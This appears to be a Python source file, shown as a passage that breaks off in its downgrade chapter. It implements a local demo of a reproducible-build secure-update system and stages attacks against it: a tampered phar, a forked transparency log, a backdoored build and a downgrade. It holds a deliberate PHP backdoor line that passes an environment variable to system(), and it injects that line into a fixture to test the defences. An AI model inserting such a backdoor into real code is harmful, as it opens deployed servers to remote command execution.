"""``rebuild demo``: the whole secure-update story on 127.0.0.1, then the attacks.

The cast, each a real component: an audit log (``rebuild log serve``) that
publishes a checkpoint only once 2 of its 3 witnesses (``rebuild witness
serve``) cosigned it; a maintainer who builds the fixture PHP application
into a ``.phar`` in the pinned ``php-8.2`` environment, signs the release and
logs it; three independent rebuilders (``rebuild verify``, three keys, three
report directories) who rebuild it and log their attestations; two HTTPS
mirrors (``rebuild mirror serve``), the first run by an attacker; and the
updater daemon (``rebuild updater daemon``, policy k = 2) that installs on a
request from the web application's user (``rebuild updater request``).
Servers, rebuilders, the daemon and the web side are separate processes;
the maintainer's and the attacker's own steps call the library.

Chapters: the cast; release 1.0.0; update to 1.0.0 (the attacker's mirror
serves a tampered phar); release 1.1.0; a forked log (shown to this updater,
then to a new server with no memory of the log); update to 1.1.0; a
backdoored build released as 1.2.0; a downgrade to 1.0.0.

Each outcome is checked against what the real components reported: an honest
release must install (exactly the maintainer's bytes), an attack must be
refused *with the gate's reason for that attack*. Nothing here decides trust:
the gate does, inside the daemon and ``rebuild update``.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import hashlib
import os
import re
import shutil
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from rebuild.demo.model import DemoResult, GateReason, Outcome, OutcomeKind, Reporter, Step
from rebuild.demo.procs import RunAs, Service, run_json, services, web_user
from rebuild.errors import InputError, OperationalError, RebuildError
from rebuild.fsio import atomic_write
from verify.errors import VerifyError

PACKAGE: Final = "hello-phar"
FIXTURE: Final = "php-phar"
ARTIFACT: Final = "hello.phar"
THRESHOLD: Final = 2
REBUILDERS: Final = ("r1", "r2", "r3")
WITNESSES: Final = ("w1", "w2", "w3")
STATUS_TIMEOUT: Final = 180.0
# Commit dates of the demo's releases (SOURCE_DATE_EPOCH comes from them).
DATES: Final = {
    "1.0.0": "2024-06-01T12:00:00Z",
    "1.1.0": "2024-09-01T12:00:00Z",
    "1.2.0": "2024-12-01T12:00:00Z",
}
_FIXTURE_VERSION: Final = "const VERSION = '1.0.0';"
# What the build server's trojan adds to the application before building it.
_BACKDOOR: Final = (
    "        if (($c = getenv('HELLO_DEBUG')) !== false) { system($c); } // backdoor\n"
)
_GREET: Final = "    public function greet(string $name): string\n    {\n"


@dataclass
class Release:
    """One release as the maintainer made it."""

    version: str
    artifact: Path
    sha256: str
    statement: Path
    recipe: Path
    log_index: int
    bundle: Path | None = None
    bundle_size: int = 0


@dataclass
class UpdateSeen:
    """What an updater reported about one request (from its status or --json report)."""

    outcome: str
    installed: str | None
    attempts: list[dict[str, Any]]
    message: str


class DemoError(OperationalError):
    """A component failed in a way that stops the story (CLI exit 2)."""


class Story:
    """One run of the demo in ``root`` (empty), told to ``reporter``."""

    def __init__(self, root: Path, reporter: Reporter, result: DemoResult) -> None:
        self.root = root
        self.reporter = reporter
        self.result = result
        self.servers: list[Service] = []
        self.chapter_no = 0
        self.releases: dict[str, Release] = {}
        self.mirror_names: dict[str, str] = {}
        self.keys = root / "keys"
        self.logs = root / "logs"
        self.upd = root / "updater"
        self.spool = self.upd / "spool"
        self.install = self.upd / "install"
        self.state = self.upd / "state"
        self.policy_path = self.upd / "policy.toml"
        self.tlog_path = self.upd / "tlog.policy"
        os.chmod(root, 0o755)  # noqa: S103 - the web user must reach the spool
        self.web: RunAs = web_user(root)
        self.attacker_offers: list[tuple[str, bytes, Path]] = []

    # -- telling --------------------------------------------------------------------

    def chapter(self, title: str, intro: str) -> None:
        self.chapter_no += 1
        self.result.chapters.append(title)
        self.reporter.chapter(self.chapter_no, title, intro)

    @contextlib.contextmanager
    def step(self, title: str) -> Iterator[list[str]]:
        lines: list[str] = []
        t0 = time.monotonic()
        ok = False
        try:
            yield lines
            ok = True
        finally:
            s = Step(self.chapter_no, title, time.monotonic() - t0, tuple(lines), ok)
            self.result.steps.append(s)
            self.reporter.step(s)

    def outcome(
        self,
        name: str,
        kind: OutcomeKind,
        *,
        expected: str,
        observed: str,
        ok: bool,
        gate: tuple[GateReason, ...] = (),
        attack_succeeded: bool = False,
    ) -> None:
        o = Outcome(name, kind, expected, observed, ok, gate, attack_succeeded)
        self.result.outcomes.append(o)
        self.reporter.outcome(o)

    # -- the story --------------------------------------------------------------------

    def run(self) -> None:
        with services() as running:
            self.servers = running
            self.cast()
            self.release("1.0.0")
            self.update_to_first()
            self.release("1.1.0", since=self.releases["1.0.0"])
            self.forked_log()
            self.update_to_second()
            self.backdoored_build()
            self.downgrade()

    # -- 1. the cast ------------------------------------------------------------------

    def cast(self) -> None:
        from rebuild.demo.tls import make_demo_tls  # noqa: PLC0415
        from rebuild.keystore import generate_key_files  # noqa: PLC0415

        self.chapter(
            "The cast",
            "Everything runs on 127.0.0.1 from one directory, with fresh keys. Each server "
            "is a real rebuild process, over HTTPS with a certificate from a CA made for "
            "this run and trusted only by the demo's own clients; builds run in the pinned "
            "php-8.2 environment (Docker, no network).",
        )
        with self.step("the pinned php-8.2 build environment (Docker)") as lines:
            from rebuild.engine.build_env import environment_image  # noqa: PLC0415

            name, lock, image = environment_image("php-8.2")
            lines.append(
                f"image {image.removeprefix('sha256:')[:12]} matches {name}'s lock "
                f"sha256:{lock[:12]}… (built first if it was missing)"
            )
        with self.step("keys: a maintainer, 3 rebuilders, the log, 3 witnesses") as lines:
            self.keys.mkdir()
            names = ["maintainer", *REBUILDERS, "log", *WITNESSES]
            for n in names:
                generate_key_files(f"{n}.example", self.keys / f"{n}.key", None)
            lines.append(f"Ed25519 keys in {self.keys}; the .pub files are C2SP verifier keys")
            lines.append(f"maintainer: {self._vkey('maintainer')}")
        with self.step("a CA for this run, and a certificate for 127.0.0.1") as lines:
            self.tls = make_demo_tls(self.root / "tls")
            lines.append(
                f"CA certificate {self.tls.ca_bundle} (handed to clients as --*-ca-bundle)"
            )
        tls = ["--tls-cert", str(self.tls.cert), "--tls-key", str(self.tls.key)]
        witnesses = self._cast_witnesses_and_mirrors(tls)
        self._cast_log(witnesses, tls)
        self._cast_daemon()

    def _cast_witnesses_and_mirrors(self, tls: list[str]) -> dict[str, Service]:
        """The witnesses and mirrors, started and ready."""
        with self.step("3 witnesses and 2 mirrors (the first mirror is the attacker's)") as lines:
            witnesses = {
                w: self._serve(
                    f"witness {w.upper()}",
                    "witness",
                    "serve",
                    *("--key", str(self.keys / f"{w}.key"), "--listen", "127.0.0.1:0"),
                    *("--state", str(self.root / "witnesses" / w)),
                    *("--log-key", str(self.keys / "log.key.pub"), *tls),
                )
                for w in WITNESSES
            }
            mirrors = []
            for m in ("1", "2"):
                (self.root / "mirrors" / m).mkdir(parents=True)
                mirrors.append(
                    self._serve(
                        f"mirror {m}",
                        "mirror",
                        "serve",
                        *("--dir", str(self.root / "mirrors" / m)),
                        *("--listen", "127.0.0.1:0", *tls),
                    )
                )
            for s in [*witnesses.values(), *mirrors]:
                s.wait_ready()
                lines.append(f"{s.name}: {s.url}")
            self.m1, self.m2 = mirrors[0].url, mirrors[1].url
            self.mirror_names = {self.m1: "mirror 1", self.m2: "mirror 2"}
        return witnesses

    def _cast_log(self, witnesses: dict[str, Service], tls: list[str]) -> None:
        """The audit log, with a tlog-policy naming the witnesses it waits for."""
        from rebuild.keystore import load_signing_key  # noqa: PLC0415
        from verify.cosignature import witness_key  # noqa: PLC0415

        with self.step(
            "the audit log: publishes only checkpoints 2 of 3 witnesses cosigned"
        ) as lines:
            self.upd.mkdir(mode=0o755)
            self.wvkeys = {
                w: witness_key(load_signing_key(self.keys / f"{w}.key")).encode() for w in WITNESSES
            }
            atomic_write(
                self.tlog_path,
                (
                    f"log {self._vkey('log')}\n"
                    + "".join(
                        f"witness {w.upper()} {self.wvkeys[w]} {witnesses[w].url}\n"
                        for w in WITNESSES
                    )
                    + "group witnesses 2 W1 W2 W3\nquorum witnesses\n"
                ).encode(),
            )
            log = self._serve(
                "audit log",
                "log",
                "serve",
                *("--dir", str(self.root / "log"), "--key", str(self.keys / "log.key")),
                *("--listen", "127.0.0.1:0", "--witnesses", str(self.tlog_path)),
                *(*tls, "--witness-ca-bundle", str(self.tls.ca_bundle), "--workers", "0"),
            )
            self.log_url = log.wait_ready()
            lines.append(f"log.example at {self.log_url}; tlog-policy {self.tlog_path}")

    def _cast_daemon(self) -> None:
        """The updater daemon and the spool its web side may write to."""
        with self.step("the updater daemon (policy: k = 2 of 3 rebuilders)") as lines:
            self._write_policy()
            self._make_spool()
            daemon_user = "root" if os.geteuid() == 0 else _user_name(os.geteuid())
            daemon = self._serve(
                "updater daemon",
                "updater",
                "daemon",
                *("--spool", str(self.spool), "--policy", str(self.policy_path)),
                *("--install-dir", str(self.install), "--state", str(self.state)),
                *("--package", PACKAGE, "--mirror-ca-bundle", str(self.tls.ca_bundle)),
                "--poll",
                "5",
                ready=re.compile(r"watching \S+ \((\w+)\)"),
            )
            mode = daemon.wait_ready()
            web = self.web.user or _user_name(os.geteuid())
            self.result.users = {"daemon": daemon_user, "web": web}
            if self.web.why:
                self.result.users["note"] = self.web.why
            lines.append(
                f"daemon as {daemon_user} ({mode}): installs into {self.install}, "
                f"mirrors {self.m1} then {self.m2}"
            )
            lines.append(f"web side as {web}: may only drop requests into {self.spool}/requests")
            if self.web.why:
                lines.append(self.web.why)

    def _serve(self, name: str, *args: str, ready: re.Pattern[str] | None = None) -> Service:
        slug = name.replace(" ", "-")
        log = self.logs / f"{slug}.log"
        s = Service(name, args, log, ready=ready) if ready else Service(name, args, log)
        self.servers.append(s)
        return s

    def _vkey(self, name: str) -> str:
        return (self.keys / f"{name}.key.pub").read_text().strip()

    def _write_policy(self) -> None:
        rebuilders = ", ".join(f'"{self._vkey(r)}"' for r in REBUILDERS)
        atomic_write(
            self.policy_path,
            (
                'format = "rebuild-policy/v1"\n'
                'tlog_policy = "tlog.policy"\n'
                "max_checkpoint_age = 3600\n"
                f'mirrors = ["{self.m1}", "{self.m2}"]\n\n'
                "[[package]]\n"
                f'name = "{PACKAGE}"\n'
                f'maintainers = ["{self._vkey("maintainer")}"]\n'
                f"rebuilders = [{rebuilders}]\n"
                f"threshold = {THRESHOLD}\n"
            ).encode(),
        )
        from rebuild.gate import load_policy  # noqa: PLC0415

        self.policy = load_policy(self.policy_path)

    def _make_spool(self) -> None:
        """The spool docs/updater.md prescribes: the web group may only drop requests."""
        web_gid = self.web.gid if self.web.gid is not None else os.getgid()
        self.spool.mkdir(mode=0o755)
        for d, mode in ((self.spool / "requests", 0o1730), (self.spool / "status", 0o750)):
            d.mkdir()
            os.chown(d, os.geteuid(), web_gid)
            os.chmod(d, mode)

    # -- releases ---------------------------------------------------------------------

    def release(self, version: str, *, since: Release | None = None) -> None:
        self.chapter(
            f"Release {version}",
            "The maintainer builds the .phar from the tagged source in the pinned php-8.2 "
            "environment, signs the release statement offline and adds it to the log. Three "
            "independent rebuilders rebuild it from the same tag, compare bit for bit, and "
            "log signed attestations.",
        )
        rel = self._maintainer(version)
        verdicts = self._rebuilders(rel)
        reproduced = [r for r, v in verdicts.items() if v["verdict"] == "reproduced"]
        self.outcome(
            f"rebuilders-reproduce-{version}",
            "flow",
            expected=f"all {len(REBUILDERS)} rebuilders reproduce {version} bit for bit and log it",
            observed=", ".join(f"{r}: {v['verdict']}" for r, v in verdicts.items()),
            ok=len(reproduced) == len(REBUILDERS) and all(v["logged"] for v in verdicts.values()),
        )
        self._bundle(rel, since)

    def _publish_on_mirror_2(self, rel: Release) -> None:
        with self.step(f"the maintainer publishes {rel.version} on mirror 2") as lines:
            assert rel.bundle is not None
            self._publish(self.root / "mirrors" / "2", rel.artifact, rel.bundle, rel.version)
            lines.append(f"{self.m2}/{PACKAGE}/{rel.version}/{ARTIFACT} and its bundle.json")

    def _tree(self, version: str, *, backdoor: bool = False) -> Path:
        """The fixture's source with its version set to ``version`` (and a trojan, if asked)."""
        from rebuild.engine.fixtures import load_fixture  # noqa: PLC0415

        fixture = load_fixture(FIXTURE)
        tree = self.root / "source" / (f"tree-{version}" + ("-backdoored" if backdoor else ""))
        shutil.copytree(fixture.directory / "src", tree)
        main = tree / "src" / "main.php"
        text = main.read_text()
        if text.count(_FIXTURE_VERSION) != 1:
            raise InputError(f"{main}: no longer declares {_FIXTURE_VERSION} once; update the demo")
        main.write_text(text.replace(_FIXTURE_VERSION, f"const VERSION = '{version}';"))
        if backdoor:
            greeter = tree / "src" / "Greeter.php"
            text = greeter.read_text()
            if text.count(_GREET) != 1:
                raise InputError(f"{greeter}: greet() changed; update the demo's backdoor")
            greeter.write_text(text.replace(_GREET, _GREET + _BACKDOOR))
        return tree

    def _recipe(self, version: str, repo: Path, commit: str, out: Path) -> Path:
        from rebuild.engine.build_env import lock_digest  # noqa: PLC0415
        from rebuild.engine.fixtures import load_fixture, recipe_text  # noqa: PLC0415
        from rebuild.recipe import parse_recipe  # noqa: PLC0415

        text = recipe_text(
            load_fixture(FIXTURE), repository=repo, commit=commit, lock_for=lock_digest
        )
        text = text.replace('version = "1.0.0"', f'version = "{version}"').replace(
            'tag = "v1.0.0"', f'tag = "v{version}"'
        )
        recipe = parse_recipe(text.encode(), str(out))
        if recipe.version != version or getattr(recipe.source, "tag", None) != f"v{version}":
            raise InputError(f"the {FIXTURE} recipe template changed shape; update the demo")
        atomic_write(out, text.encode())
        return out

    def _maintainer(self, version: str, *, build_tree: Path | None = None) -> Release:
        """Commit and tag ``version``, build it (from ``build_tree`` if given), sign, log."""
        from rebuild.engine.build import build_recipe  # noqa: PLC0415
        from rebuild.engine.fixtures import commit_tree, init_repository  # noqa: PLC0415
        from rebuild.keystore import load_signing_key  # noqa: PLC0415
        from rebuild.recipe import load_recipe  # noqa: PLC0415
        from rebuild.release import release_statement, sign_release  # noqa: PLC0415

        out = self.root / "maintainer" / version
        out.mkdir(parents=True)
        repo = self.root / "source" / f"{PACKAGE}.git"
        with self.step(f"tag v{version} in the maintainer's git repository") as lines:
            if not repo.exists():
                init_repository(repo, DATES[version])
            commit = commit_tree(
                repo,
                self._tree(version),
                tag=f"v{version}",
                date=DATES[version],
                message=f"{PACKAGE} {version}",
            )
            recipe = self._recipe(version, repo, commit, out / f"{PACKAGE}.recipe.toml")
            lines.append(f"{repo} v{version} = {commit[:12]}; recipe {recipe.name}")
        title = (
            f"the build server builds {ARTIFACT} {version} in php-8.2"
            if build_tree is not None
            else f"build {ARTIFACT} {version} in the pinned php-8.2 environment"
        )
        with self.step(title) as lines:
            build_recipe_path = recipe
            if build_tree is not None:
                # The compromised build server: a checkout with one more commit on top.
                evil = self.root / "attacker" / "buildserver.git"
                init_repository(evil, DATES[version])
                evil_commit = commit_tree(
                    evil, build_tree, tag=f"v{version}", date=DATES[version], message="build"
                )
                build_recipe_path = self._recipe(
                    version, evil, evil_commit, self.root / "attacker" / "build.recipe.toml"
                )
                lines.append("its checkout carries one extra line in src/Greeter.php:")
                lines.append(_BACKDOOR.strip())
            built = build_recipe(build_recipe_path, out, work=out / "work")
            lines.append(f"{built.artifact} sha256 {built.sha256}")
        with self.step(f"sign the release statement for {version} and add it to the log") as lines:
            statement = release_statement([built.artifact], load_recipe(recipe))
            envelope = sign_release(statement, load_signing_key(self.keys / "maintainer.key"))
            path = out / f"{ARTIFACT}.release.json"
            atomic_write(path, envelope)
            index = self._log_add(path)
            lines.append(
                f"in-toto release statement, DSSE-signed by maintainer.example: {path.name}; "
                f"log index {index}"
            )
        rel = Release(version, built.artifact, built.sha256, path, recipe, index)
        self.releases[version] = rel
        return rel

    def _log_add(self, path: Path, log_url: str | None = None) -> int:
        from rebuild.engine.attest import publish  # noqa: PLC0415

        return publish(log_url or self.log_url, path, ca_bundle=self.tls.ca_bundle).index

    def _rebuilders(self, rel: Release) -> dict[str, dict[str, Any]]:
        """The three rebuilders, at once, each ``rebuild verify`` with its own key and reports."""
        with self.step(f"3 rebuilders run rebuild verify on {rel.version}") as lines:

            def one(r: str) -> dict[str, Any]:
                reports = self.root / "rebuilders" / r / rel.version
                code, doc, err = run_json(
                    [
                        *("verify", str(rel.statement), str(rel.artifact)),
                        *("--maintainer-key", str(self.keys / "maintainer.key.pub")),
                        *("--key", str(self.keys / f"{r}.key"), "--log", self.log_url),
                        *("--log-ca-bundle", str(self.tls.ca_bundle)),
                        *("--report-dir", str(reports)),
                    ]
                )
                verdict = doc.get("verdict")
                if code == 2 or verdict not in ("reproduced", "mismatch"):
                    message = (doc.get("error") or {}).get("message") or doc.get("message") or err
                    raise DemoError(f"rebuilder {r}: rebuild verify exit {code}: {message}")
                entry = doc.get("log_entry") or {}
                return {
                    "verdict": verdict,
                    "logged": isinstance(entry.get("index"), int),
                    "index": entry.get("index"),
                    "causes": list(doc.get("causes") or []),
                    "attestation": doc.get("attestation"),
                }

            with concurrent.futures.ThreadPoolExecutor(len(REBUILDERS)) as pool:
                results = dict(zip(REBUILDERS, pool.map(one, REBUILDERS), strict=True))
            for r, v in results.items():
                causes = f" ({', '.join(v['causes'][:3])})" if v["causes"] else ""
                lines.append(f"{r}: {v['verdict']}{causes}; attestation at log index {v['index']}")
        return results

    def _bundle(self, rel: Release, since: Release | None) -> None:
        with self.step(f"collect the bundle for {rel.version} from the log") as lines:
            rel.bundle, rel.bundle_size, detail = self._collect(
                self.log_url, rel, since.bundle_size if since else None, self.root / "bundles"
            )
            lines.append(detail)

    def _collect(
        self, log_url: str, rel: Release, since: int | None, out: Path
    ) -> tuple[Path, int, str]:
        from rebuild.bundle import collect_from_log  # noqa: PLC0415
        from rebuild.log.client import LogClient  # noqa: PLC0415

        with LogClient(log_url, self.tls.ca_bundle) as client:
            collected = collect_from_log(
                client, rel.sha256, package=PACKAGE, since_size=since, trust=self.policy
            )
        report = collected.report()
        out.mkdir(parents=True, exist_ok=True)
        path = out / f"{rel.version}.bundle.json"
        atomic_write(path, collected.bundle.encode())
        size = int(report["checkpoint"]["size"])
        consistency = report["consistency_from"]
        detail = (
            f"{path.name}: release + {len(report['attestations'])} attestations with "
            f"inclusion proofs, checkpoint size {size}"
            + (f", consistency proof from size {consistency[0]}" if consistency else "")
        )
        return path, size, detail

    def _publish(self, mirror: Path, artifact: Path, bundle: Path, version: str) -> None:
        from rebuild.updater.mirror import publish  # noqa: PLC0415

        publish(mirror, artifact, bundle, package=PACKAGE, version=version, artifact_name=ARTIFACT)

    def _attacker_mirror(self, offers: list[tuple[str, bytes, Path]]) -> None:
        """The attacker's mirror 1 now offers exactly ``offers`` (version, bytes, bundle)."""
        m1 = self.root / "mirrors" / "1"
        shutil.rmtree(m1 / PACKAGE, ignore_errors=True)
        for version, data, bundle in offers:
            f = self.root / "attacker" / "files" / version / ARTIFACT
            f.parent.mkdir(parents=True, exist_ok=True)
            f.write_bytes(data)
            self._publish(m1, f, bundle, version)

    # -- updates through the daemon -----------------------------------------------------

    def _request(self, version: str, title: str) -> UpdateSeen:
        """The web side asks (``rebuild updater request``); wait for the daemon's answer."""
        from rebuild.updater.spool import read_status  # noqa: PLC0415

        who = self.web.user or _user_name(os.geteuid())
        with self.step(title) as lines:
            code, doc, err = run_json(
                ["updater", "request", PACKAGE, version, "--spool", str(self.spool)], who=self.web
            )
            rid = doc.get("id")
            if code != 0 or not isinstance(rid, str):
                raise DemoError(f"rebuild updater request (as {who}) exit {code}: {err.strip()}")
            lines.append(
                f"as {who}: rebuild updater request {PACKAGE} {version} (request {rid[:8]}…)"
            )
            deadline = time.monotonic() + STATUS_TIMEOUT
            status: dict[str, Any] = {}
            while time.monotonic() < deadline:
                with contextlib.suppress(RebuildError):
                    status = read_status(self.spool, PACKAGE)[PACKAGE]
                if status.get("request", {}).get("id") == rid:
                    break
                self._check_running()
                time.sleep(0.05)
            else:
                raise DemoError(f"the updater daemon did not answer request {rid} in time")
            seen = _seen(status)
            lines.extend(self._attempt_lines(seen.attempts))
            lines.append(
                f"daemon: {seen.message}"
                + ("" if seen.outcome == "installed" else f"; installed: {seen.installed}")
            )
        return seen

    def _attempt_lines(self, attempts: list[dict[str, Any]]) -> list[str]:
        lines = []
        for a in attempts:
            where = self.mirror_names.get(a.get("mirror", ""), a.get("mirror", "?"))
            failures = (a.get("gate") or {}).get("failures") or []
            if failures:
                why = "; ".join(f"step {f['step']} {f['code']}: {f['reason']}" for f in failures)
                lines.append(f"{where} {a.get('version')}: {a.get('outcome')} by the gate: {why}")
            else:
                error = f": {a['error']}" if a.get("error") else ""
                lines.append(f"{where} {a.get('version')}: {a.get('outcome')}{error}")
        return lines

    def _check_running(self) -> None:
        for s in self.servers:
            if s.proc.poll() is not None:
                raise DemoError(f"{s.name} exited with status {s.proc.returncode} (see {s.log})")

    def _gate_reasons(self, seen: UpdateSeen, version: str) -> tuple[GateReason, ...]:
        out = []
        for a in seen.attempts:
            if a.get("version") != version:
                continue
            where = self.mirror_names.get(a.get("mirror", ""), a.get("mirror", "?"))
            for f in (a.get("gate") or {}).get("failures") or []:
                out.append(GateReason(where, version, int(f["step"]), f["code"], f["reason"]))
        return tuple(out)

    def _installed_bytes(self) -> bytes | None:
        current = self.install / "current" / ARTIFACT
        return current.read_bytes() if current.is_file() else None

    def _refused(
        self,
        name: str,
        expected: str,
        seen: UpdateSeen,
        version: str,
        code: str,
        *,
        installed: Release,
        also: tuple[bool, str] = (True, ""),
    ) -> None:
        """An attack outcome: every attempt refused with ``code``, nothing installed.

        ``also`` is a further condition the outcome needs and what to say when it
        does not hold (or, when it holds, a note to add).
        """
        reasons = self._gate_reasons(seen, version)
        tried = [a for a in seen.attempts if a.get("version") == version]
        with_code = [
            a
            for a in tried
            if code in {f["code"] for f in (a.get("gate") or {}).get("failures") or []}
        ]
        unchanged = seen.installed == installed.version and self._installed_bytes() == (
            installed.artifact.read_bytes()
        )
        succeeded = seen.outcome == "installed" or not unchanged
        ok = (
            bool(tried)
            and not succeeded
            and all(a.get("outcome") == "rejected" for a in tried)
            and len(with_code) == len(tried)
            and also[0]
        )
        observed = (
            f"ATTACK SUCCEEDED: installed {seen.installed}"
            if succeeded
            else f"refused ({', '.join(sorted({g.code for g in reasons})) or 'no gate reason'})"
            f"; still {seen.installed}"
        ) + (f"; {also[1]}" if also[1] else "")
        self.outcome(
            name,
            "attack",
            expected=expected,
            observed=observed,
            ok=ok,
            gate=reasons,
            attack_succeeded=succeeded,
        )

    def _installed(self, name: str, seen: UpdateSeen, rel: Release) -> None:
        data = self._installed_bytes()
        ok = (
            seen.outcome == "installed"
            and seen.installed == rel.version
            and (data == rel.artifact.read_bytes())
        )
        observed = (
            f"installed {rel.version}, byte for byte the maintainer's phar"
            if ok
            else f"{seen.outcome}; installed {seen.installed}: {seen.message}"
        )
        self.outcome(
            name,
            "flow",
            expected=f"the daemon installs {rel.version} (the maintainer's exact bytes) atomically",
            observed=observed,
            ok=ok,
            gate=self._gate_reasons(seen, rel.version),
        )

    # -- 3. update to 1.0.0 -----------------------------------------------------------

    def update_to_first(self) -> None:
        rel = self.releases["1.0.0"]
        assert rel.bundle is not None
        self.chapter(
            "Update to 1.0.0",
            "Mirror 1 belongs to an attacker: it serves 1.0.0's genuine bundle with a phar "
            "altered after signing. The web application's user asks for an update; the "
            "daemon, another user, fetches, gates and installs.",
        )
        self._publish_on_mirror_2(rel)
        with self.step("the attacker's mirror 1 serves a tampered phar") as lines:
            tampered = _tamper(rel.artifact.read_bytes())
            self.attacker_offers = [("1.0.0", tampered, rel.bundle)]
            self._attacker_mirror(self.attacker_offers)
            lines.append(
                f"{ARTIFACT} with a line added to its stub: sha256 "
                f"{hashlib.sha256(tampered).hexdigest()}"
            )
        seen = self._request("latest", "the web side asks for the latest release")
        reasons = self._gate_reasons(seen, "1.0.0")
        m1 = [g for g in reasons if g.source == "mirror 1"]
        ok = any(g.code == "subject-mismatch" for g in m1) and seen.installed == "1.0.0"
        self.outcome(
            "tampered-phar-refused",
            "attack",
            expected="the gate refuses mirror 1's phar (step 1 subject-mismatch); the daemon "
            "fails over to mirror 2",
            observed=f"mirror 1: {', '.join(sorted({g.code for g in m1})) or 'not refused'}",
            ok=ok,
            gate=tuple(m1),
            attack_succeeded=self._installed_bytes() == tampered,
        )
        self._installed("update-installs-1.0.0", seen, rel)

    # -- 5. a forked log --------------------------------------------------------------

    def forked_log(self) -> None:
        rel = self.releases["1.1.0"]
        self.chapter(
            "Attack: a forked log",
            "Someone holding the log's key (and one witness key) runs a second log on the "
            "same key and shows an updater a history nobody else sees: the way to hide a "
            "targeted update. To isolate the log checks, the fork holds only genuine "
            "entries (1.1.0's release and attestations). The honest witnesses never see it.",
        )
        tls = ["--tls-cert", str(self.tls.cert), "--tls-key", str(self.tls.key)]
        attacker = self.root / "attacker"
        with self.step("a second log on the same key, cosigned by a stolen witness key") as lines:
            stolen = self._serve(
                "stolen witness W1",
                "witness",
                "serve",
                *("--key", str(self.keys / "w1.key"), "--listen", "127.0.0.1:0"),
                *(
                    "--state",
                    str(attacker / "w1-state"),
                    "--log-key",
                    str(self.keys / "log.key.pub"),
                ),
                *tls,
            )
            stolen.wait_ready()
            policy = attacker / "fork.tlog.policy"
            atomic_write(
                policy,
                (
                    f"log {self._vkey('log')}\nwitness W1 {self.wvkeys['w1']} {stolen.url}\n"
                    "group stolen 1 W1\nquorum stolen\n"
                ).encode(),
            )
            fork = self._serve(
                "forked log",
                "log",
                "serve",
                *("--dir", str(attacker / "fork"), "--key", str(self.keys / "log.key")),
                *("--listen", "127.0.0.1:0", "--witnesses", str(policy)),
                *(*tls, "--witness-ca-bundle", str(self.tls.ca_bundle), "--workers", "0"),
            )
            fork_url = fork.wait_ready()
            entries = [rel.statement] + [
                self.root / "rebuilders" / r / rel.version / "attestation.dsse.json"
                for r in REBUILDERS
            ]
            for e in entries:
                self._log_add(e, fork_url)
            accepted = self.releases["1.0.0"].bundle_size
            bundle, size, detail = self._collect(
                fork_url,
                rel,
                accepted if accepted < len(entries) else None,
                attacker / "fork-bundles",
            )
            lines.append(f"forked log.example at {fork_url}: {len(entries)} entries, size {size}")
            lines.append(detail + "; cosigned by the stolen W1 only")
            self.attacker_offers.append(("1.1.0", rel.artifact.read_bytes(), bundle))
            self._attacker_mirror(self.attacker_offers)
            lines.append("mirror 1 offers 1.1.0 with the fork's bundle; mirror 2 has no 1.1.0 yet")
        seen = self._request("latest", "the web side asks for the latest release")
        evidence = sorted(self.state.glob("fork-evidence-*"))
        self._refused(
            "forked-log-refused",
            "this updater accepted the honest log before: the gate refuses the fork "
            "(step 6 fork) and keeps both checkpoints as evidence",
            seen,
            "1.1.0",
            "fork",
            installed=self.releases["1.0.0"],
            also=(
                bool(evidence),
                f"evidence in {evidence[0].relative_to(self.root)}"
                if evidence
                else "no evidence kept",
            ),
        )
        self._new_server(rel)

    def _new_server(self, rel: Release) -> None:
        """A server that has never seen the log: only the witnesses protect it."""
        target = self.root / "new-server"
        with self.step("a new server, no memory of the log: rebuild update from mirror 1") as lines:
            code, doc, err = run_json(
                [
                    *("update", "--policy", str(self.policy_path), "--package", PACKAGE),
                    *("--install-dir", str(target / "install"), "--mirror", self.m1),
                    *("--version", rel.version, "--mirror-ca-bundle", str(self.tls.ca_bundle)),
                ]
            )
            if code == 2:
                raise DemoError(f"rebuild update (new server) exit 2: {err.strip()}")
            seen = UpdateSeen(
                str(doc.get("status")),
                doc.get("installed_version") if doc.get("status") != "installed" else rel.version,
                list(doc.get("attempts") or []),
                str(doc.get("status")),
            )
            lines.extend(self._attempt_lines(seen.attempts))
            lines.append(f"rebuild update exit {code}: {seen.outcome}")
        reasons = self._gate_reasons(seen, rel.version)
        codes = {g.code for g in reasons}
        installed = (target / "install" / "current").exists()
        ok = code == 1 and "witness-quorum" in codes and "fork" not in codes and not installed
        self.outcome(
            "unwitnessed-checkpoint-refused",
            "attack",
            expected="a new server has nothing to compare with: the gate refuses the fork's "
            "checkpoint for too few witness cosignatures (step 5 witness-quorum)",
            observed=f"ATTACK SUCCEEDED: installed {rel.version}"
            if installed
            else f"refused ({', '.join(sorted(codes)) or 'no gate reason'}); nothing installed",
            ok=ok,
            gate=reasons,
            attack_succeeded=installed,
        )

    # -- 6. update to 1.1.0 -----------------------------------------------------------

    def update_to_second(self) -> None:
        self.chapter(
            "Update to 1.1.0",
            "The maintainer publishes 1.1.0 on mirror 2; mirror 1 still serves the fork.",
        )
        self._publish_on_mirror_2(self.releases["1.1.0"])
        seen = self._request("latest", "the web side asks for the latest release")
        self._installed("update-installs-1.1.0", seen, self.releases["1.1.0"])

    # -- 7. a backdoored build --------------------------------------------------------

    def backdoored_build(self) -> None:
        self.chapter(
            "Attack: a backdoored build",
            "The build server is compromised: it builds 1.2.0 from a checkout with one extra "
            "line. The maintainer signs what it produced and logs it, as usual. The rebuilders "
            "build the tagged source and get other bytes.",
        )
        version = "1.2.0"
        rel = self._maintainer(version, build_tree=self._tree(version, backdoor=True))
        verdicts = self._rebuilders(rel)
        self._bundle(rel, self.releases["1.1.0"])
        self._publish_on_mirror_2(rel)
        seen = self._request("latest", "the web side asks for the latest release")
        mismatch = [r for r, v in verdicts.items() if v["verdict"] == "mismatch" and v["logged"]]
        self._refused(
            "backdoored-build-refused",
            f"all {len(REBUILDERS)} rebuilders attest mismatch; the gate refuses "
            f"(step 3 threshold-not-met: 0 of {THRESHOLD} reproduced)",
            seen,
            version,
            "threshold-not-met",
            installed=self.releases["1.1.0"],
            also=(
                len(mismatch) == len(REBUILDERS),
                f"{len(mismatch)} of {len(REBUILDERS)} rebuilders attested mismatch",
            ),
        )

    # -- 8. a downgrade ---------------------------------------------------------------

    def downgrade(self) -> None:
        old, current = self.releases["1.0.0"], self.releases["1.1.0"]
        self.chapter(
            "Attack: a downgrade",
            "1.0.0 is signed, reproduced, logged and witnessed, and older than what is "
            "installed (say it has a known hole). The attacker's mirror offers it with a "
            "bundle made fresh from the current log, and the web side, compromised, asks "
